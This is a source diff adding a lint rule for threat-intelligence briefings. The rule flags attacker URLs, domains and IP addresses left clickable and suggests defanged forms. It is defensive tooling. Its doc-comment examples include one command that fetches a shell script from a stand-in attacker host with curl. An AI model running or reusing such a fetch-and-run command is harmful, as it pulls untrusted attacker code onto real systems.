@@ -1,0 +1,125 @@
+import * as z from 'zod'
+import { defang } from '../../addresses/indicators.js'
+import { isResolver, kindOfIp } from '../../addresses/ip-address.js'
+import { isAllowed } from '../allow-list.js'
+import { type BodyAddress, listBodyAddresses } from '../body-addresses.js'
+import type { Site } from '../finding.js'
+import { type KnownAddresses, knownAddresses, withoutWww } from '../known-addresses.js'
+import { defineRule } from '../rule.js'
+import { shorten } from '../shorten.js'
+
+/**
+ * A live address in the text: an indicator that is not defanged, or a reference that belongs into a note.
+ *
+ * Mail programs, PDF readers and the Markdown parser make links of them; one touch takes the reader to the attacker. An
+ * address is an indicator for sure, and an error, if it is a public IP address, if the same briefing defangs its host
+ * elsewhere, or if the house lists the host in `indicators`; then it is one in code and behind `[words](…)` too. Any other
+ * URL or domain in the text may be a reference, and is a warning.
+ *
+ * Nothing is said of private addresses and those for documentation, of resolvers that everybody asks (8.8.8.8), of mail
+ * addresses, of hosts that a note of the briefing cites, and of the house's own in `allow`. Names written with capitals
+ * (`Booking.com`) and version numbers are left alone; so is every form of defanging.
+ *
+ * @bad
+ * ~~~md
+ * The loader came from hxxps://evil[.]example/a, later from https://evil.example/b and 45.33.32.156.
+ *
+ *     curl https://www.evil.example/x.sh
+ * ~~~
+ * 1:59-1:81: The URL `https://evil.example/b` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//evil[.]example/b`
+ * 1:86-1:98: The IP address `45.33.32.156` is live: one touch takes the reader there. Write `45.33.32[.]156`
+ * 3:10-3:39: The URL `https://www.evil.example/x.sh` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//www[.]evil[.]example/x.sh`
+ *
+ * @bad
+ * ~~~md
+ * 詳細は<https://example.com/a>とexample.jpにある。
+ * ~~~
+ * 1:4-1:27: The URL `https://example.com/a` stands in the text. Cite a source in a note, or put its host into the option `allow`; write an indicator as `hxxps[:]//example[.]com/a`
+ * 1:28-1:38: The domain `example.jp` stands in the text. Cite a source in a note, or put its host into the option `allow`; write an indicator as `example[.]jp`
+ *
+ * @bad
+ * ~~~md
+ * <table><tr><td>203.0.113.7, evil[.]example</td>
+ * <td>45.33.32.156</td><td>http://evil.example/</td></tr></table>
+ *
+ * <a href="https://evil.example/">Words</a>
+ * ~~~
+ * 2:5-2:17: The IP address `45.33.32.156` is live: one touch takes the reader there. Write `45.33.32[.]156`
+ * 2:26-2:46: The URL `http://evil.example/` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxp[:]//evil[.]example/`
+ * 4:1-4:33: The URL `https://evil.example/` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//evil[.]example/`
+ *
+ * @bad {"indicators": ["evil[.]example"]}
+ * ~~~md
+ * The host https://cdn.evil.example/b.
+ * ~~~
+ * 1:10-1:36: The URL `https://cdn.evil.example/b` is live, and the house lists its host as an indicator: one touch takes the reader there. Write `hxxps[:]//cdn[.]evil[.]example/b`
+ *
+ * @good {"allow": ["example.com"]}
+ * ~~~md
+ * evil[.]com, sub.evil[.]co.jp, hxxp[:]//evil[.]com, hxxps://evil.com/a.com, a[@]b.com, 1.2.3[.]4, www.evil[.]com,
+ * evil(.)com, evil[dot]com, [REDACTED], [TLP:AMBER], Booking.com, ASP.NET, README.md, com.android.chat, 192.168.0.1,
+ * バージョン1.2.3.4、FortiOS 7.0.0.1、12:34:56、https://www.example.com/ and info@example.net.
+ *
+ * The router at https://192.168.1.1/admin, the example 192.0.2.5, the resolver 8.8.8.8, and https://example.org/b[^a].
+ *
+ * [^a]: A source. <https://example.org/>
+ * ~~~
+ */
+export default defineRule({
+  id: 'ioc-live',
+  severity: 'error',
+  suppressible: 'unless-error',
+  fixable: true,
+  disclaimer: true,
+  options: z.strictObject({
+    allow: z.array(z.string()).default([]),
+    indicators: z.array(z.string()).default([]),
+  }),
+  check(source, report, lists) {
+    const known = knownAddresses(source, lists.indicators)
+    for (const at of source.files) {
+      for (const address of listBodyAddresses(at)) {
+        const { indicator, place, isLink } = address
+        if (isAllowed(lists.allow, indicator.host, indicator.value)) continue
+        const verdict = judge(address, known)
+        // A disclaimer calls no notes: the address of the house's own page belongs there.
+        if (!verdict || (verdict === 'reference' && at.role === 'disclaimer')) continue
+        const shown = `The ${names[indicator.kind]} \`${shorten(indicator.value)}\``
+        const harmless = defang(indicator)
+        if (verdict === 'reference') {
+          const reason = `${shown} stands in the text. Cite a source in a note, or put its host into the option \`allow\`; write an indicator as \`${shorten(harmless)}\``
+          report({ at, place, reason, atMost: 'warning' })
+          continue
+        }
+        const { because, cause } = verdict
+        report({
+          at,
+          place,
+          reason: `${shown} is live${because}: one touch takes the reader there. Write \`${shorten(harmless)}\``,
+          ...(!isLink && { fix: { range: place, text: harmless } }),
+          ...(cause && { cause: { ...cause, reason: 'It is defanged here' } }),
+        })
+      }
+    }
+  },
+})
+
+const names = { url: 'URL', email: 'e-mail address', ip: 'IP address', domain: 'domain' }
+
+/** Whether an address is an indicator, with what tells so, or may be a reference. */
+function judge(
+  { indicator, isLink, isCode }: BodyAddress,
+  known: KnownAddresses,
+): { because: string; cause?: Site } | 'reference' | undefined {
+  const { kind, host } = indicator
+  const range = kindOfIp(host)
+  if (range === 'private' || isResolver(host)) return undefined
+  if (known.isListed(host)) return { because: ', and the house lists its host as an indicator' }
+  const isCited = known.cited.has(withoutWww(host))
+  const twin =
+    known.defangedWhole(indicator) ?? (isCited ? undefined : known.defangedHost(indicator))
+  if (twin) return { because: ', and the briefing defangs its host elsewhere', cause: twin }
+  if (kind === 'email' || isCited || range === 'reserved') return undefined
+  if (range === 'public') return { because: '' }
+  return isLink || isCode ? undefined : 'reference'
+}
